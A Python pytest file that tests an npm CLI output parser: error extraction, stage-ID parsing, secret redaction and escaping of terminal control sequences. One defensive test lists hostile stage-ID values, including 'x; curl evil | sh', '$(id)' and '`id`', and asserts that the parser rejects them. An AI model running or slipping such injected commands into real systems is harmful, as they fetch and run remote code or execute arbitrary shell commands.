from __future__ import annotations

import json

import pytest
from tests.npm.scripted_registry import jwt

from flotilla.npm.cli import parse_answer, parse_staged

ERROR = json.dumps({"error": {"code": "E404", "summary": "404 Not Found - PUT http://x/tool", "detail": "d"}}, indent=2)


def test_npm_s_error_is_found_among_noise() -> None:
    stdout = f"npm notice hello\n{{ not json\n{ERROR}\ntrailing {{}}\n"
    answer = parse_answer(exit_status=1, stdout=stdout, stderr="", observed="")
    assert (answer.ok, answer.code, answer.status) == (False, "E404", 404)
    assert answer.text == "404 Not Found - PUT http://x/tool"


def test_the_stage_id_is_found_under_the_package_s_name() -> None:
    stdout = json.dumps({"@acme/tool": {"integrity": "sha512-x", "stageId": "5f0e"}})
    answer = parse_answer(exit_status=0, stdout=stdout, stderr="", observed="")
    assert (answer.ok, answer.stage_id) == (True, "5f0e")


@pytest.mark.parametrize("stdout", ["", "{", "[]", '{"error": 7}', '{"error": {"code": 7}}', "{" * 5000])
def test_an_answer_that_is_none_is_told_by_npm_s_log(stdout: str) -> None:
    stderr = "npm error code E500\nnpm error the end\nnpm error A complete log of this run can be found in: /x\n"
    answer = parse_answer(exit_status=1, stdout=stdout, stderr=stderr, observed="")
    assert (answer.code, answer.text) == ("", "code E500 the end")


def test_npm_s_words_about_the_exchange_are_kept_without_secrets() -> None:
    stderr = f"npm verbose oidc Failed token exchange with {jwt(sub='x')} and sesame\nnpm http fetch GET 200\n"
    answer = parse_answer(exit_status=1, stdout="", stderr=stderr, observed="", secrets=["sesame"])
    assert answer.oidc == ("oidc Failed token exchange with *** and ***",)
    assert "sesame" not in answer.log


def test_a_server_s_words_cannot_carry_a_secret_or_a_terminal_s_commands_into_ours() -> None:
    stdout = json.dumps({"error": {"code": "E\x1b[2J", "summary": "you sent sesame\x07"}})
    answer = parse_answer(exit_status=1, stdout=stdout, stderr="", observed="", secrets=["sesame"])
    assert (answer.code, answer.text) == ("E\\x1b[2J", "you sent ***\\x07")


def test_what_servers_answered_is_read_and_a_broken_note_is_skipped() -> None:
    notes = [
        {"method": "GET", "host": "h", "path": "/x", "status": 200},
        {"method": "PUT", "host": "h", "path": "/x", "status": 429, "after": "1934"},
    ]
    observed = "\n".join([json.dumps(notes[0]), '{"cut', json.dumps(notes[1])])
    answer = parse_answer(exit_status=1, stdout=ERROR, stderr="", observed=observed)
    assert [(each.method, each.status) for each in answer.observed] == [("GET", 200), ("PUT", 429)]
    assert answer.after == "1934"


def test_retry_after_of_a_success_is_nobody_s_business() -> None:
    note = json.dumps({"method": "PUT", "host": "h", "path": "/x", "status": 400, "after": "1934"})
    assert parse_answer(exit_status=1, stdout=ERROR, stderr="", observed=note).after is None


@pytest.mark.parametrize(("stdout", "count"), [('npm notice\n[{"id": "1"}, 7]', 1), ("[", 0), ("", 0), ('{"a": 1}', 0)])
def test_the_staged_are_listed_as_far_as_they_can_be_read(stdout: str, count: int) -> None:
    assert len(parse_staged(stdout)) == count


@pytest.mark.parametrize("hostile", ["x; curl evil | sh", "$(id)", "`id`", "-rf", "a\nb", "", "x" * 101, 7])
def test_a_stage_id_that_a_shell_would_read_is_none(hostile: object) -> None:
    """The summary tells the reader to run `npm stage approve ID`."""
    stdout = json.dumps({"@acme/tool": {"stageId": hostile}})
    assert parse_answer(exit_status=0, stdout=stdout, stderr="", observed="").stage_id == ""


def test_a_log_that_is_cut_in_the_middle_of_a_secret_shows_no_rest_of_it() -> None:
    secret = "S3cr3t" * 6
    for kept in range(1, len(secret)):
        stderr = secret + "y" * (20_000 - kept)
        log = parse_answer(exit_status=1, stdout="", stderr=stderr, observed="", secrets=[secret]).log
        assert "cr3t" not in log
        assert "S3" not in log
